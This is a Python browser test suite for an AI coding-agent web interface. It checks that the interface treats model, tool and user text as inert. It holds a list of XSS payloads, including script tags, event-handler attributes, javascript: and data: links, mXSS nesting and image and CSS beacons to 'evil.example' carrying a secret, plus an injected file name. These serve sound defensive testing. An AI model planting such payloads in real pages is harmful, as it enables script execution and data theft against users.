"""Whatever a model, a repository or a user writes is text: nothing of it runs, nothing of it is fetched."""

# spec: K6

import pytest

from tests.browser.conftest import tab_of
from tests.browser.house import END, call
from tests.browser.tab import until

PAYLOADS = (
    "<script>window.hit='script'</script>",
    "<img src=x onerror=\"window.hit='img'\">",
    "<svg onload=\"window.hit='svg'\"><script>window.hit='svg'</script></svg>",
    "<iframe srcdoc=\"<script>parent.hit='iframe'</script>\"></iframe>",
    "<details open ontoggle=\"window.hit='toggle'\">x</details>",
    "<form action=\"javascript:window.hit='form'\"><button>go</button></form>",
    "[link](javascript:window.hit='link')",
    "[link](data:text/html,<script>opener.hit='data'</script>)",
    "![leak](https://evil.example/leak.png?secret)",
    "<a href=\"jAvAsCrIpT:window.hit='a'\">a</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"window.hit='mx'\">",
    "<style>body{background:url(https://evil.example/css)}</style>",
    '"><img src=x onerror="window.hit=1">',
    "```html\n<img src=x onerror=\"window.hit='code'\">\n```",
    "`<img src=x onerror=\"window.hit='tick'\">`",
    "<b onmouseover=\"window.hit='over'\">hover</b>",
    "[x]: https://evil.example/ \"' onmouseover='window.hit=1\"\n\n[x]",
)
ALL = "\n\n".join(PAYLOADS)
TAG = PAYLOADS[1]
# Slashes and line ends are not for names of files.
FILE = "<img src=x onerror=window.hit='file'>.html"


def rows():
    write = call("write", path=FILE, content=ALL)
    plan = call("update_plan", items=[{"text": TAG, "state": "in_progress"}])
    shell = call("shell", command=f"cat <<'E'\n{ALL}\nE")
    ask = call("ask_user", question=ALL, options=[TAG, "no"])
    return (
        {"text": ALL, "thinking": ALL, "tool_calls": [write, plan, shell]},
        {"text": ALL, "tool_calls": [call("delegate", task=ALL)]},
        {"text": ALL, "tool_calls": [ask]},
        END,
        {"coder": True, "tool_calls": [call("note", plan=ALL, open_tasks=[TAG], errors=[TAG])]},
        {"coder": True, "text": ALL},
    )


@pytest.fixture(scope="module")
def hostile(house):
    """A session that has them in every place that has words; at the end it asks, and one is queued."""
    id = house.create(*rows(), prompt=ALL, title=TAG)
    until(lambda: house.session(id)["pending"], "the question")
    house.ask("POST", f"/api/sessions/{id}/prompt", {"text": ALL})
    return id


def looked_at(tab, id):
    """Every part of the page that shows some of it; what was asked of the network meanwhile."""
    asked = []
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.open(id)
    until(lambda: tab.part("question").count() == 1, "the question")
    seen = set()
    for _ in range(40):  # from the end to the beginning, opening all that can be opened
        tab.page.locator("[data-open=false] > button").evaluate_all(
            "all => all.map(n => n.click())"
        )
        seen |= set(tab.page.locator("article").evaluate_all("all => all.map(n => n.dataset.kind)"))
        top = tab.page.locator("[data-testid=timeline] > div").first
        if not top.evaluate("(n) => n.scrollTop > 0 && (n.scrollTop -= n.clientHeight / 2, true)"):
            break
    tab.part("changes-button").click()
    until(lambda: tab.part("diff-file").count() == 1, "the changes")
    tab.part("title").hover()
    return seen, asked


def safe(tab, asked):
    assert tab.page.evaluate("window.hit") is None
    assert [url for url in asked if not url.startswith(tab.house.network.address)] == []
    attributes = "n => n.getAttributeNames().some(name => name.startsWith('on'))"
    bad = f"""() => [...document.querySelectorAll("#root *")].filter((node) =>
      ({attributes})(node) || /^(IFRAME|OBJECT|EMBED|STYLE|SCRIPT|FORM|MATH)$/.test(node.tagName)
        && node.dataset.testid !== "composer" && !node.closest("[data-testid=question]")
      || /^\\s*(javascript|data|vbscript):/i.test(node.getAttribute("href") ?? "")
      || node.tagName === "IMG" && node.getAttribute("src") !== "/icon.svg"
    ).map((node) => node.outerHTML.slice(0, 120))"""
    assert tab.page.evaluate(bad) == []


def test_with_both_walls(tab, hostile):
    seen, asked = looked_at(tab, hostile)
    assert {"user", "assistant", "tool", "plan", "coder", "question"} <= seen
    safe(tab, asked)


def test_with_the_sanitiser_alone(visit, house, hostile):
    tab = visit(house, bypass_csp=True)
    _, asked = looked_at(tab, hostile)
    tab.page.evaluate("document.body.append(Object.assign(new Image(), {onerror() {}}))")
    safe(tab, [url for url in asked if "/undefined" not in url])
    inline = "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='window.proof=1'>`)"
    tab.page.evaluate(inline)  # that wall was really down
    until(lambda: tab.page.evaluate("window.proof") == 1, "a page without the other wall")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_with_the_content_security_policy_alone(shared, payload):
    """Put into the page as it is, as if there were no sanitiser."""
    page, asked = shared
    page.evaluate(
        """(html) => {
          const box = document.createElement("div");
          box.innerHTML = html;
          document.body.append(box);
          for (const script of box.querySelectorAll("script"))
            box.append(Object.assign(document.createElement("script"), {text: script.text}));
          for (const node of box.querySelectorAll("a, b, button, details")) {
            if (node.tagName === "A") node.target = "_self";
            node.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
            if (!/^https?:/.test(node.href ?? "")) node.click();
          }
          return new Promise((done) => setTimeout(done, 60));
        }""",
        payload,
    )
    assert page.evaluate("window.hit") is None
    assert [url for url in asked if "evil.example" in url] == []


@pytest.fixture(scope="module")
def shared(browser, house):
    context = browser.new_context()
    tab = tab_of(context, house, log_in=True).open()
    asked = []
    # What the policy refuses is announced and then blocked: only answers and failures on the wire count.
    tab.page.on("requestfinished", lambda request: asked.append(request.url))
    yield tab.page, asked
    context.close()


def test_a_prompt_that_is_typed_is_text(tab, house):
    id = house.create(END, prompt=None)
    tab.open(id).drives()
    tab.say(TAG)
    until(lambda: tab.texts("user") == [TAG], "the message")
    safe(tab, [])


def test_a_name_that_is_given_is_text(tab, house):
    id = house.create(END, prompt=None)
    tab.open(id).drives()
    tab.part("session-menu").click()
    tab.page.get_by_role("menuitem", name="Rename").click()
    tab.part("rename-input").fill(TAG)
    tab.part("rename-input").press("Enter")
    until(lambda: tab.part("title").inner_text() == TAG, "the name")
    until(lambda: TAG in tab.page.title(), "the name in the title")
    safe(tab, [])
